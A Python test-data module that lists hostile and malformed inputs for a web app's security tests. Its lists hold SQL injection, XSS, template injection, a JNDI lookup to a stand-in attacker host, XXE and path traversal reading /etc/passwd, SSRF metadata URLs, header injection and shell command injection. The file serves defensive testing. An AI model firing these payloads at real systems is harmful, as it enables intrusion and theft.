"""Values that nobody means well with, or over which programs stumble. tests/web/test_hostile_values.py sends them.

Each goes wherever a value can go: as it is into JSON, as a text into addresses, headers and forms. Bytes are no text.
"""

from typing import Any


class Literal(str):
    """Stands in JSON as it is written, without quotation marks: numbers that Python can't write itself."""


MARK = "payapp-hostile"  # an answer that holds `<payapp-hostile` has let somebody write its HTML

# fmt: off
EMPTY_AND_BLANK: list[Any] = [
    "", " ", "   ", "\t", "\u00a0", "\u3000", "\u200b", "\ufeff", "\u2028", "\x0b\x0c", "\x85",
]
CONTROL: list[Any] = [
    "\0", "a\0b", "\0" * 50, "%00", "a%00.png", "\x01\x02\x1f", "\x7f", "\x1b[31mred\x1b[0m", "\x08\x08", "\x9b31m",
]
LINE_BREAKS: list[Any] = [
    "a\r\nSet-Cookie: session=evil", "a\nLocation: https://evil.example/", "a\rb", "%0d%0aSet-Cookie:%20a=b",
    "%0aX-Evil: 1", "\r\n\r\n<html>", "to@example.com\r\nBcc: all@example.com", "\u560a\u560dSet-Cookie: a=b",
    "2026-11-30 ERROR payapp a line that was never logged\nsecond",
]
UNICODE: list[Any] = [
    "\ud800", "\udfff", "a\udc80b", "\ud83d", "\ude00\ud83d", "\ud83d\ude00", "😀", "👩\u200d👩\u200d👧\u200d👦",
    "🏴\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f", "\U0010ffff", "\ufffe", "\uffff", "\ufffd",
    "\u202eevil.exe", "\u2066a\u2069", "مرحبا", "שלום", "e\u0301", "é", "ﬀ", "İ", "ı", "ß", "ẞ", "K", "ſ",
    "Ａｄａ＠ｅｘａｍｐｌｅ．ｃｏｍ", "аdа@example.com", "ada@exаmple.com", "ада@пример.рф", "ada@xn--.example",
    "ada@xn--zzzzzzzzzzzz.example", "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢", "\u0300" * 500, "a" + "\u0301" * 2000, "𝟙𝟚𝟛",
    "١٢٣", "²", "½", "Ⅻ", "一二三", "null\u0000byte", "\U000e0001", "\ud835\udfd9",
]
LONG: list[Any] = [
    "a" * 255, "a" * 256, "a" * 257, "a" * 1025, "a" * 8191, "a" * 70_000, "é" * 300, "😀" * 5000, " " * 10_000,
    "\n" * 10_000, "a@" + "b" * 300 + ".example", "a" * 65 + "@example.com", "a@" + ".".join("b" for _ in range(200)),
    "a," * 20_000, "%41" * 3000, "/" * 5000, "../" * 1000, "(" * 5000, "a@a." * 3000,
]
NUMBERS: list[Any] = [
    0, -0.0, -1, 1, 2**31 - 1, 2**31, -(2**31) - 1, 2**32, 2**53, 2**53 + 1, 2**63 - 1, 2**63, -(2**63) - 1, 2**64,
    10**30, 10**400, -(10**400), 10**4299, Literal("1" + "0" * 5000), Literal("-1" + "0" * 100_000),
    Literal("1e5000"), 1.0, 1.5, -1.5, 0.1, 1e308, 5e-324, float("inf"), float("-inf"), float("nan"), True, False,
    None,
]
NUMBERS_AS_TEXT: list[Any] = [
    "0", "-1", "+1", "00", "007", "1_000", "1,000", "1.0", "1e3", "1e999", "0x10", "0b1", "0o7", " 1 ", "1\n", "NaN",
    "Infinity", "-Infinity", "9223372036854775807", "9223372036854775808", "99999999999999999999999999", "9" * 4301,
    "9" * 20_000, "true", "false", "null", "undefined", "None", "[]", "{}",
]
OF_OTHER_SHAPES: list[Any] = [
    [], {}, [1], ["a", "b"], [[[[1]]]], [None], {"a": 1}, {"$ne": None}, {"$gt": ""},
    {"__proto__": {"is_staff": True}}, {"constructor": {"prototype": {}}}, {"__class__": "User"},
    {"py/object": "os.system"}, {"": ""}, {"a\0": 1}, {"\ud800": 1}, {"a" * 5000: 1}, ["a"] * 5000,
    {str(number): number for number in range(2000)}, [[]] * 1000,
]
SQL: list[Any] = [
    "'", '"', "' OR '1'='1", "' OR 1=1 --", "'; DROP TABLE users; --", "1; SELECT pg_sleep(10)", "1 OR 1=1",
    "1) OR (1=1", "' UNION SELECT NULL, password_hash FROM users --", "\\'; --", "%' OR '%'='", "%", "_",
    "%%%s%(user_id)s", ":user_id", "$1", "?", "/* */", "0x27", "ada@example.com'--", "\u02bc OR 1=1", "E'\\x27'",
    "$$; SELECT 1; $$",
]
MARKUP_AND_TEMPLATES: list[Any] = [
    f"<{MARK}>", f'"><{MARK}>', f"'><{MARK} onclick=alert(1)>", f"</textarea><{MARK}>",
    f"</title></style></script><{MARK}>", f"<svg onload=alert(1)><{MARK}>", f"--><{MARK}>", f"]]><{MARK}>",
    f"&lt;{MARK}&gt;", f"%3C{MARK}%3E", f"\\u003c{MARK}\\u003e", "<script>alert(1)</script>", "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>", "{{ 7*7 }}", "{{ config.SECRET_KEY }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{% endfor %}", "{{ ''.__class__.__mro__[1] }}", "${7*7}",
    "#{7*7}", "<%= 7*7 %>", "{0.__class__}", "%s%s%s%n", "{}", "{user.password_hash}",
    "${jndi:ldap://evil.example/a}",
    '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>', "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd", "-2+3",
]
ADDRESSES_AND_FILES: list[Any] = [
    "../../../../etc/passwd", "..\\..\\windows\\win.ini", "....//....//etc/passwd", "%2e%2e%2f%2e%2e%2fetc/passwd",
    "..%252f..%252fetc/passwd", "..%c0%af..%c0%afetc/passwd", "/etc/passwd", "file:///etc/passwd", "C:\\con",
    "nul.zip", ".", "..", "~root", ".git/config", "a/b/c", "//evil.example", "///evil.example/", "/\\evil.example",
    "\\\\evil.example", "/\t/evil.example", "/%09/evil.example", "https://evil.example/", "http:evil.example",
    "https:///evil.example", "https://localhost@evil.example/", "/dashboard/credits\\@evil.example",
    "/\u2028//evil.example", "http://[::1", "http://169.254.169.254/latest/meta-data/", "http://a:99999999/",
    "http://\ud800/", "?a=b#c", "#", "&a=b", ";a=b", "a=b=c",
]
COMMANDS: list[Any] = ["; ls", "| id", "`id`", "$(id)", "&& sleep 10", "*", "!", "-rf", "--help", "a;b"]
ENCODINGS: list[Any] = [
    "%", "%z", "%zz", "%u0041", "%ff", "%c0%80", "%ed%a0%80", "%f4%90%80%80", "%25%30%30", "+", "=?utf-8?q?=00?=",
    "\\x00", "\\u0000", "&#0;", b"\xff", b"\xc0\xaf", b"\xed\xa0\x80", b"\xf8\x88\x80\x80\x80", b"\x80",
    b"abc\xfe\xff", b"\xef\xbb\xbfabc", "text".encode("utf-16"), "é".encode("latin-1"), bytes(range(256)),
]
TOKENS: list[Any] = [
    "Bearer", "Bearer ", "Bearer payapp_" + "0" * 10 + "_" + "0" * 64, "bearer \x00", "Basic YTpi", "Basic ====",
    "Digest username=a", "eyJhbGciOiJub25lIn0.eyJfdXNlcl9pZCI6IjEifQ.", ".eJw",
    ".eJyrVgp29FGyUqpWKlOyUqoFAB0QA-U.a.b", "a.b.c", "....", "session=", 'W/"', 'W/"a", "b', '"' * 200, "*",
    "t=1,v1=", "t=" + "9" * 400 + ",v1=0", "bytes=0-", "bytes=-1",
    "bytes=" + ",".join(f"{n}-{n}" for n in range(2000)), "text/html;q=" + "9" * 500, "text/html;q=nan, */*;q=-1",
    "a/b;" * 1000, "localhost:99999", "localhost:abc", "localhost, evil.example", "[::1", "evil.example",
    "127.0.0.1, " * 500, "999.999.999.999", "fe80::1%eth0", "Thu, 99 Foo 99999 99:99:99 GMT",
    "gzip, deflate, br;q=0.0001, identity;q=*", "chunked", "100-continue", "websocket",
]

# fmt: on


def nest(depth: int, kind: type) -> Any:
    """Return a list in a list, or an object in an object, as deep as that."""
    value: Any = 1
    for _ in range(depth):
        value = [value] if kind is list else {"a": value}
    return value


DEEP: list[Any] = [nest(depth, kind) for depth in (20, 100, 400) for kind in (list, dict)]

VALUES: list[Any] = [
    *EMPTY_AND_BLANK,
    *CONTROL,
    *LINE_BREAKS,
    *UNICODE,
    *LONG,
    *NUMBERS,
    *NUMBERS_AS_TEXT,
    *OF_OTHER_SHAPES,
    *SQL,
    *MARKUP_AND_TEMPLATES,
    *ADDRESSES_AND_FILES,
    *COMMANDS,
    *ENCODINGS,
    *TOKENS,
    *DEEP,
]
